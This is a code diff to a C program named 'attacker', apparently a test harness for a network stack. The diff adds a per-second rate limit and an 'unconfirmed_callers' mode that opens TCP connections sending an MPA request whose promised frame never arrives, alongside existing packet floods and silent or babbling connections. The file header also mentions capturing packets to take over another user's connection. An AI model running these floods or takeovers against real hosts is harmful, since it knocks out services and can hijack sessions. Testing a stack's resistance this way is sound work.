@@ -5,8 +5,10 @@
  * program. If the attack needs the numbers of the victim's connections, the program first captures
  * packets. Then it becomes another user for good.
  *
- *   attacker ATTACK SOURCE VICTIM SERVICE CLOSED OPEN...
+ *   attacker ATTACK RATE SOURCE VICTIM SERVICE CLOSED OPEN...
  *
+ * RATE is the maximum number of packets or attempts per second, or 0 for no limit. A limited
+ * attacker that was held up does not send faster afterwards.
  * SOURCE and VICTIM are IPv4 addresses. SERVICE is the connection qualifier of a service that
  * accepts every request. OPEN are ports of the victim, and CLOSED is a port that is closed. SIGUSR1
  * starts the attack on the open ports, SIGUSR2 sends the same packets to the closed port. Before
@@ -404,8 +406,8 @@ static int udp_socket(void)
     return fd;
 }
 
-/* Sends a batch to an address, and returns how many datagrams were sent. */
-static long send_batch(const struct attack *attack, struct sockaddr_in *to)
+/* Sends `count` datagrams to an address, and returns how many were sent. */
+static long send_batch(const struct attack *attack, struct sockaddr_in *to, int count)
 {
     static struct packet *pool;
     static struct mmsghdr batch[BATCH_PACKETS];
@@ -420,7 +422,7 @@ static long send_batch(const struct attack *attack, struct sockaddr_in *to)
         for (uint64_t n = 0; n < POOL_PACKETS && !attack->never_repeats; n++)
             attack->make(&pool[n], n);
     }
-    for (int i = 0; i < BATCH_PACKETS; i++, next++) {
+    for (int i = 0; i < count; i++, next++) {
         struct packet *packet = &pool[next % POOL_PACKETS];
         if (attack->never_repeats)
             attack->make(packet, next);
@@ -428,7 +430,7 @@ static long send_batch(const struct attack *attack, struct sockaddr_in *to)
         batch[i].msg_hdr = (struct msghdr){
             .msg_name = to, .msg_namelen = sizeof *to, .msg_iov = &pieces[i], .msg_iovlen = 1};
     }
-    sent = sendmmsg(fd, batch, BATCH_PACKETS, 0);
+    sent = sendmmsg(fd, batch, (unsigned)count, 0);
     /* The error may belong to an earlier datagram. */
     EXPECT(sent > 0 || errno == ECONNREFUSED || errno == ENOBUFS, "sendmmsg: %s", strerror(errno));
     return sent > 0 ? sent : 0;
@@ -436,13 +438,19 @@ static long send_batch(const struct attack *attack, struct sockaddr_in *to)
 
 /* ---- attacks on other sockets ---------------------------------------------------------------- */
 
+/* What a TCP caller sends first, if anything. */
+static const char WORDS[300] = "GET / HTTP/1.1";
 /*
- * Opens a TCP connection that sends garbage or nothing. The latest MAX_CALLERS connections stay
- * open.
+ * A request of MPA's revision 2 in the peer-to-peer model, which promises an RDMA write as the
+ * first frame (RFC 6581). That frame never follows.
  */
-static long open_connection(const struct sockaddr_in *to, bool sends_garbage)
+static const char REQUEST[] = "MPA ID Req Frame\x10\2\0\4\x80\4\x80\4";
+
+/*
+ * Opens a TCP connection and sends these octets. The latest MAX_CALLERS connections stay open.
+ */
+static long open_connection(const struct sockaddr_in *to, const char *octets, size_t length)
 {
-    static const char words[300] = "GET / HTTP/1.1";
     static int connections[MAX_CALLERS], next;
     struct sockaddr_in from = {.sin_family = AF_INET, .sin_addr = source};
     int on = 1, fd;
@@ -457,8 +465,8 @@ static long open_connection(const struct sockaddr_in *to, bool sends_garbage)
            "TCP socket: %s", strerror(errno));
     /* On the loopback device, the connection is established or refused when connect returns. */
     if ((connect(fd, (const struct sockaddr *)to, sizeof *to) == 0 || errno == EINPROGRESS) &&
-        sends_garbage)
-        send(fd, words, sizeof words, MSG_NOSIGNAL);
+        length > 0)
+        send(fd, octets, length, MSG_NOSIGNAL);
     return 1;
 }
 
@@ -482,23 +490,28 @@ static long attack_local_sockets(bool closed)
 
 /* ---- control --------------------------------------------------------------------------------- */
 
-/* Sends one batch of packets or makes one batch of attempts. Returns their number. */
-static long attack_once(const char *name, const struct attack *attack, bool closed)
+/* Sends at most `count` packets, or makes one batch of attempts. Returns their number. */
+static long attack_once(const char *name, const struct attack *attack, bool closed, int count)
 {
     static int next;
     in_port_t port = closed ? closed_port : open_ports[next++ % port_count];
     struct sockaddr_in to = {
         .sin_family = AF_INET, .sin_addr = victim, .sin_port = htons(port)};
     if (attack != NULL)
-        return send_batch(attack, &to);
+        return send_batch(attack, &to, count);
     if (strcmp(name, "local_sockets") == 0)
         return attack_local_sockets(closed);
-    return open_connection(&to, strcmp(name, "babbling_callers") == 0);
+    if (strcmp(name, "babbling_callers") == 0)
+        return open_connection(&to, WORDS, sizeof WORDS);
+    if (strcmp(name, "unconfirmed_callers") == 0)
+        return open_connection(&to, REQUEST, sizeof REQUEST - 1);
+    return open_connection(&to, NULL, 0);
 }
 
 static const struct attack *find_attack(const char *name)
 {
-    static const char *const OTHERS[] = {"local_sockets", "silent_callers", "babbling_callers"};
+    static const char *const OTHERS[] = {"local_sockets", "silent_callers", "babbling_callers",
+                                         "unconfirmed_callers"};
     for (size_t i = 0; i < sizeof ATTACKS / sizeof *ATTACKS; i++)
         if (strcmp(ATTACKS[i].name, name) == 0)
             return &ATTACKS[i];
@@ -518,17 +531,18 @@ int main(int argc, char **argv)
     } progress[2] = {{0, 0}, {0, 0}};
     sigset_t signals;
     double last, reported;
-    int active_signal;
+    int active_signal, rate;
 
-    EXPECT(argc >= 7 && argc - 6 <= MAX_PORTS,
-           "usage: attacker ATTACK SOURCE VICTIM SERVICE CLOSED OPEN...");
+    EXPECT(argc >= 8 && argc - 7 <= MAX_PORTS,
+           "usage: attacker ATTACK RATE SOURCE VICTIM SERVICE CLOSED OPEN...");
     attack = find_attack(argv[1]);
-    EXPECT(inet_pton(AF_INET, argv[2], &source) == 1 && inet_pton(AF_INET, argv[3], &victim) == 1,
-           "%s or %s is not an IPv4 address", argv[2], argv[3]);
-    service_port = (uint64_t)atoi(argv[4]);
-    closed_port = (in_port_t)atoi(argv[5]);
-    for (port_count = 0; port_count < argc - 6; port_count++)
-        open_ports[port_count] = (in_port_t)atoi(argv[6 + port_count]);
+    rate = atoi(argv[2]);
+    EXPECT(inet_pton(AF_INET, argv[3], &source) == 1 && inet_pton(AF_INET, argv[4], &victim) == 1,
+           "%s or %s is not an IPv4 address", argv[3], argv[4]);
+    service_port = (uint64_t)atoi(argv[5]);
+    closed_port = (in_port_t)atoi(argv[6]);
+    for (port_count = 0; port_count < argc - 7; port_count++)
+        open_ports[port_count] = (in_port_t)atoi(argv[7 + port_count]);
 
     sigemptyset(&signals);
     sigaddset(&signals, SIGUSR1);
@@ -549,7 +563,10 @@ int main(int argc, char **argv)
         if (signal > 0)
             active_signal = signal;
         closed = active_signal == SIGUSR2;
-        progress[closed].packets += attack_once(argv[1], attack, closed);
+        progress[closed].packets +=
+            attack_once(argv[1], attack, closed, rate > 0 ? 1 : BATCH_PACKETS);
+        while (rate > 0 && now() - last < 1.0 / rate)
+            nanosleep(&(struct timespec){0, 20000}, NULL);
         time = now();
         progress[closed].seconds += time - last;
         last = time;
